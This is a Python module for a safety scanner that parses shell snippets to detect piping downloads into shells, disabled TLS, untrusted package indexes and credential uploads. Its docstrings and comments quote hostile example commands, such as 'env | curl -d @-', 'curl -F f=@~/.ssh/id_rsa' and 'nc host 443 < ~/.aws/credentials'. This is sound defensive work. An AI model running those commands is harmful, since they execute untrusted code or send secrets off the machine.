"""Unsafe shell commands, found by parsing the shell with tree-sitter-bash rather than by regex alone.

``find_unsafe(text)`` returns :class:`ShellFinding` objects (rule, 0-based offset of the snippet, message,
confidence) for commands in fenced shell blocks, inline code and command-like lines of ``text``:

* ``pipe-to-shell``: network content reaching an interpreter through a pipe (``curl … | tee f | sh``,
  ``| sudo -E /bin/sh``), a file (``curl … -o /tmp/i.sh && sh /tmp/i.sh``, ``curl … >i; bash i``) or a
  substitution (``eval "$(curl …)"``, ``source <(curl …)``); decoded data fed to an interpreter
  (``echo … | base64 -d | sh``);
* ``tls-disabled``: ``git config http.sslVerify false``, ``GIT_SSL_NO_VERIFY``, ``npm … strict-ssl false``,
  ``NODE_TLS_REJECT_UNAUTHORIZED=0`` (``curl -k``, ``wget --no-check-certificate``: low confidence);
* ``untrusted-index``: ``pip install --trusted-host``, an index or registry over plain http, another
  https index (low confidence unless --trusted-host);
* ``credential-upload``: the environment or a credential file sent to a URL (``env | curl -d @-``,
  ``curl -F f=@~/.ssh/id_rsa``, ``curl -d "k=$API_TOKEN" http://host``).

The parser is tolerant: a snippet that does not parse still yields its commands. Nothing here runs code.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, islice
from typing import Any

from skillforge.safety.prefilter import contains_any, lowered
from skillforge.safety.shell_rules import (
    DEFAULT_VALUES,
    DURATION,
    INTERPRETERS,
    WRAPPER_VALUES,
    WRAPPERS,
    base,
    copies_out,
    env_setting,
    fetches_and_evaluates,
    host_of,
    is_decoder,
    is_downloader,
    is_interpreter,
    plain_http_install,
    sensitive,
    tls_off,
    untrusted_index,
    upload_args,
    uploads,
)
from skillforge.safety.shell_scope import CommandIndex, Scope, scope_of
from skillforge.safety.snippets import SNIPPET_KEYS, snippets
from skillforge.text import parse


@dataclass(frozen=True, slots=True)
class ShellFinding:
    rule: str  # pipe-to-shell | tls-disabled | untrusted-index | credential-upload
    offset: int  # where the snippet starts in the text
    message: str
    confidence: str  # "high" | "low"
    hosts: tuple[str, ...] = ()  # hosts of the downloads (a low-confidence https install is only low
    # when the caller trusts every one of them)


_URL = re.compile(r"https?://[^\s\"'|;)]+")


def find_unsafe(text: str) -> list[ShellFinding]:
    """Unsafe commands anywhere in ``text``, at the offset of the command that does it."""
    low = lowered(text)
    if not contains_any(low, SNIPPET_KEYS):
        return []
    found: list[ShellFinding] = []
    files: Files = {}  # files a download or a decoder wrote, across the text's snippets
    for offset, snippet in snippets(text):
        data = snippet.encode("utf-8", "replace")
        named: dict[int, tuple[str, ...]] = {}  # a node's hosts, once (one command can hold many findings)
        for rule, message, conf, node, used in analyse(snippet, files, offset):  # offset: the snippet's id
            at = offset + len(data[: node.start_byte].decode("utf-8", "ignore"))
            if not used and node.start_byte not in named:
                named[node.start_byte] = tuple(host_of(u).lower() for u in _URL.findall(_text(node)))
            found.append(ShellFinding(rule, at, message, conf, used or named[node.start_byte]))
    return found


Files = dict[str, tuple[int, bool, tuple[str, ...]]]  # name -> (snippet, over plain http, download hosts)


def analyse(
    snippet: str, files: Files, snippet_id: int = 0
) -> Iterator[tuple[str, str, str, Any, tuple[str, ...]]]:
    """(rule, message, confidence, node, download hosts) for every unsafe construct of one snippet."""
    root = parse("bash", snippet)
    index = CommandIndex(root, _walk, words)
    for node in _walk(root):
        kind = node.type
        found: Iterator[tuple[str, str, str]] = iter(())
        if kind == "pipeline":
            found = _pipeline(node)
        elif kind == "declaration_command":  # export X=0
            found = tls_off(["export", *_text(node).split()[1:]])
        elif kind == "command":
            ws = index.words_of(node)
            ran = _runs_file(ws, files, snippet_id)
            if ran is not None:
                yield (*ran, node, files[_ran_name(ws, files)][2])
            found = chain(_command(node, ws, files, snippet_id), _redirects(node, files, snippet_id, index))
        elif kind == "redirected_statement":
            found = chain(_redirects(node, files, snippet_id, index), _heredoc(node, files, snippet_id))
        for rule, message, conf in found:
            yield rule, message, conf, node, ()


def _walk(node: Any) -> Iterator[Any]:
    stack = [node]
    while stack:
        n = stack.pop()
        yield n
        stack.extend(reversed(n.children))


def _text(node: Any) -> str:
    return str(node.text.decode("utf-8", "replace"))


_NOT_WORDS = frozenset({"variable_assignment", "file_redirect", "herestring_redirect", "heredoc_redirect"})


def raw_words(command: Any) -> list[str]:
    """The command's words as written (quotes kept), wrappers included; assignments and redirects left out."""
    return [_text(child) for child in command.children if child.type not in _NOT_WORDS]


def _unquoted(word: str) -> str:
    """A word with its quotes removed: the outer ones, and those inside a word with no expansion
    (``c''url``, ``\\curl`` and ``"s"h`` run curl and sh)."""
    out = word.strip("\"'")
    if ("'" in out or '"' in out or "\\" in out) and "$" not in out and "`" not in out:
        try:
            parts = shlex.split(word)
        except ValueError:
            return out
        return parts[0] if len(parts) == 1 else out
    return out


def words(command: Any) -> list[str]:
    """The command's name and arguments as text, quotes removed, wrappers (sudo, env …) dropped: the
    last ``len(words(c))`` of ``raw_words(c)``."""
    out = [_unquoted(word) for word in raw_words(command)]
    while len(out) > 1 and base(out[0]) in WRAPPERS:
        name = base(out.pop(0))
        valued = WRAPPER_VALUES.get(name, DEFAULT_VALUES)
        while out and (out[0].startswith("-") or "=" in out[0]):
            flag = out.pop(0)
            if flag in valued and out:
                out.pop(0)
        if name == "timeout" and len(out) > 1 and DURATION.fullmatch(out[0]):
            out.pop(0)
    return out


def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
    commands = [  # a group or subshell feeding the pipe counts by its commands: { env; cat f; } | curl
        words(c) for child in node.children for c in ([child] if child.type == "command" else _grouped(child))
    ]
    for i, ws in enumerate(commands):
        if not is_interpreter(ws) or (len(ws) > 1 and _reads_file_arg(ws)):
            continue
        before = commands[:i]
        if any(is_downloader(w) for w in before):
            evasive = any(w and base(w[0]) == "tee" for w in before) or bool(
                re.search(r"\bsudo\s+(?:-\w*E|--preserve-env)", _text(node))
            )
            conf = "low" if _official_install(before) and not evasive else "high"
            yield "pipe-to-shell", f"pipes a download into {base(ws[0])}", conf
        elif any(is_decoder(w) for w in before):
            yield "pipe-to-shell", f"feeds decoded data into {base(ws[0])}", "high"
        elif any(w and w[0].startswith(("$", "`")) for w in before):  # $(echo Y3VybA== | base64 -d) URL
            yield (
                "pipe-to-shell",
                f"pipes a command whose name is computed at run time into {base(ws[0])}",
                "high",
            )
    yield from uploads(commands)


_GROUPED = 50  # commands of a group read for a pipe: bounded, so nested groups cost linear time


def _grouped(node: Any) -> list[Any]:
    if node.type not in ("subshell", "compound_statement"):
        return []
    return list(islice((c for c in _walk(node) if c.type == "command"), _GROUPED))


def _reads_file_arg(ws: list[str]) -> bool:
    """``python script.py`` reads its own file, not the pipe (``-`` or ``-c``/``-s`` keeps reading it)."""
    args = [w for w in ws[1:] if not w.startswith("-")]
    return bool(args) and "-s" not in ws and "-" not in ws


def _official_install(commands: list[list[str]]) -> bool:
    """Every download is over https (an installer served by its vendor): shown, but low confidence."""
    urls = [w for ws in commands if is_downloader(ws) for w in ws[1:] if "://" in w]
    return (
        bool(urls)
        and all(u.startswith("https://") for u in urls)
        and not any(w == "-E" or w == "--preserve-env" for ws in commands for w in ws)
    )


# interpreters' options that take the next word (python -W ignore x.py, bash -o pipefail x.sh)
_VALUED = frozenset({"-W", "-X", "-o", "-O", "--rcfile", "--init-file", "-r", "--require", "-I"})


def _ran_name(ws: list[str], files: Files) -> str:
    if "/" in ws[0] and base(ws[0]) in files:  # ./i.sh, /tmp/i.sh (but /usr/bin/bash i.sh runs i.sh)
        return base(ws[0])
    return _script(ws)


def _script(ws: list[str]) -> str:
    """The file an interpreter runs: its first word that is no option nor an option's value (``python
    summarize.py items.json`` runs summarize.py, items.json is its data); '' when it runs code given
    inline or a module (``-c``, ``-e``, ``-m``)."""
    skip = False
    for i, w in enumerate(ws[1:], 1):
        if skip:
            skip = False
        elif w == "--":
            return base(ws[i + 1]) if i + 1 < len(ws) else ""
        elif w in ("-c", "-e", "-m"):
            return ""
        elif w.startswith("-"):
            skip = w in _VALUED
        else:
            return base(w)
    return ""


def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, str] | None:
    """An interpreter (or ``./x``) running a file a download wrote: high when chained in the same
    snippet or fetched over plain http, else low (a vendor's installer, downloaded then run)."""
    if not ws or not files:
        return None
    name = base(ws[0])
    if "/" in ws[0] and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
        target = name
    elif name in INTERPRETERS and _script(ws) in files:
        target = _script(ws)
    else:
        return None
    _, plain, _ = files[target]
    conf = "high" if plain else "low"  # over https: as a pipe from a vendor (see injection._shell_confidence)
    return "pipe-to-shell", f"{name} runs {target}, which was just downloaded", conf


def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
    if not ws:
        yield from _env_assignments(node)
        return
    name = base(ws[0])
    yield from _env_assignments(node)
    if name in INTERPRETERS or name in ("sh", "bash"):
        for sub in _walk(node):
            if sub.type in ("command_substitution", "process_substitution") and sub is not node:
                inner = [words(c) for c in _walk(sub) if c.type == "command"]
                if any(is_downloader(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs a download through a substitution", "high"
                elif any(is_decoder(w) for w in inner):
                    yield "pipe-to-shell", f"{name} runs decoded data through a substitution", "high"
    yield from _inner_script(ws, files, snippet_id)
    if is_downloader(ws):
        urls = [w for w in ws[1:] if "://" in w]
        entry = (
            snippet_id,
            any(u.startswith("http://") for u in urls),
            tuple(host_of(u).lower() for u in urls),
        )
        files.update(dict.fromkeys(_download_targets(ws), entry))
        why = upload_args(ws)
        if why:
            urls = [w for w in ws[1:] if "://" in w]
            known = bool(urls) and all(u.startswith("https://") for u in urls)
            yield (
                "credential-upload",
                f"{why} to {', '.join(host_of(u) for u in urls) or 'a URL'}",
                "low" if (known or not urls) and "variable" in why else "high",
            )
    yield from fetches_and_evaluates(ws)
    yield from tls_off(ws)
    yield from untrusted_index(ws)
    yield from plain_http_install(ws)
    yield from copies_out(ws)


_STDIN_CODE = frozenset({"python", "node", "perl", "ruby", "php", "deno", "bun"})


def _heredoc(node: Any, files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
    """A here-document fed to a shell is a script (``bash <<EOF … EOF``), and one fed to another
    interpreter is its code (``python3 - <<EOF``): both are checked as such."""
    body = next((c for c in node.children if c.type == "command"), None)
    ws = words(body) if body is not None else []
    if not ws:
        return
    name = base(ws[0])
    reads_stdin = not _script(ws) and "-c" not in ws and "-e" not in ws
    for doc in (d for c in node.children if c.type == "heredoc_redirect" for d in c.children):
        if doc.type != "heredoc_body" or not reads_stdin:
            continue
        if name in _SHELLS:
            for rule, message, conf, _, _ in analyse(_text(doc), files, snippet_id):
                yield rule, message, conf
            subs = [s for s in _walk(doc) if s.type == "command_substitution"]  # expanded: <<EOF, not <<'EOF'
            if any(is_downloader(words(c)) for s in subs for c in _walk(s) if c.type == "command"):
                yield "pipe-to-shell", f"{name} runs a download expanded into its here-document", "high"
        elif name.rstrip("0123456789.") in _STDIN_CODE:
            yield from fetches_and_evaluates([name, "-c", _text(doc)])


_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "su"})


def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
    """``sh -c "curl … | sh"``: the script a shell runs from a string is checked as a script (each
    level strips one layer of quotes, so nesting ends)."""
    if base(ws[0]) not in _SHELLS:
        return
    for i, w in enumerate(ws[1:-1], 1):
        if w.startswith("-") and not w.startswith("--") and "c" in w:
            for rule, message, conf, _, _ in analyse(ws[i + 1], files, snippet_id):
                yield rule, message, conf
            return


_SHORT_OUTPUT = re.compile(r"-[A-Za-z]*?([oO])(.*)")  # -o F, -sLo F, -qO F, and glued: -o/tmp/i.sh, -qO-


def _download_targets(ws: list[str]) -> set[str]:
    """The files a download writes: the value of its output option, in any of getopt's spellings
    (``-o F``, ``-sLoF``, ``--output F``, ``--output=F``), or the URL's name (wget, curl -O)."""
    out: set[str] = set()
    for i, w in enumerate(ws):
        following = ws[i + 1] if i + 1 < len(ws) else ""
        flag, eq, value = w.partition("=")
        short = _SHORT_OUTPUT.fullmatch(w)
        if flag in ("--output", "--output-document"):
            out.add(base(value if eq else following))
        elif short and not (short[2] and short[1] == "O" and base(ws[0]) == "curl"):  # curl -O takes none
            out.add(base(short[2] or following))
    if base(ws[0]) == "wget" and not out:
        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    if base(ws[0]) == "curl" and ("-O" in ws or "--remote-name" in ws):
        out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
    return {o for o in out if o and o != "-"}


def _redirects(
    node: Any, files: Files, snippet_id: int, index: CommandIndex
) -> Iterator[tuple[str, str, str]]:
    """A statement's file redirects, wherever written: after (``nc h 1 < f``, a redirected statement:
    about every command of its body) or before a command's name (``< f nc h 1``: about that command's
    own words; commands nested in its arguments are visited on their own)."""
    redirects = [child for child in node.children if child.type == "file_redirect"]
    if not redirects:
        return iter(())
    if node.type == "command":
        scope = scope_of([index.words_of(node)])
    else:
        body = node.child_by_field_name("body") or node.children[0]
        scope = index.scope(body)
    _redirect_writes(redirects, files, snippet_id, scope)
    return _redirect_upload(redirects, scope)


_WRITES = frozenset({">", ">>", "&>", "&>>", ">|"})


def _redirect_writes(redirects: list[Any], files: Files, snippet_id: int, scope: Scope) -> None:
    """A download's or decode's output written to a file (``curl u > f``): ``f`` is a fetched file."""
    if scope.fetches:
        entry = (snippet_id, scope.plain, scope.hosts)
        for child in redirects:
            if any(c.type in _WRITES for c in child.children):  # > f, >> f, &> f (not < f)
                files[base(_text(child.children[-1]).strip("\"'"))] = entry


def _redirect_upload(redirects: list[Any], scope: Scope) -> Iterator[tuple[str, str, str]]:
    """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
    for child in redirects:
        text = _text(child).strip()
        if scope.network and text.startswith("<") and sensitive(text):
            yield (
                "credential-upload",
                f"feeds a credential file to the network ({base(scope.network[0])})",
                "high",
            )


def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
    for child in node.children:
        if child.type == "variable_assignment":
            yield from env_setting(_text(child))
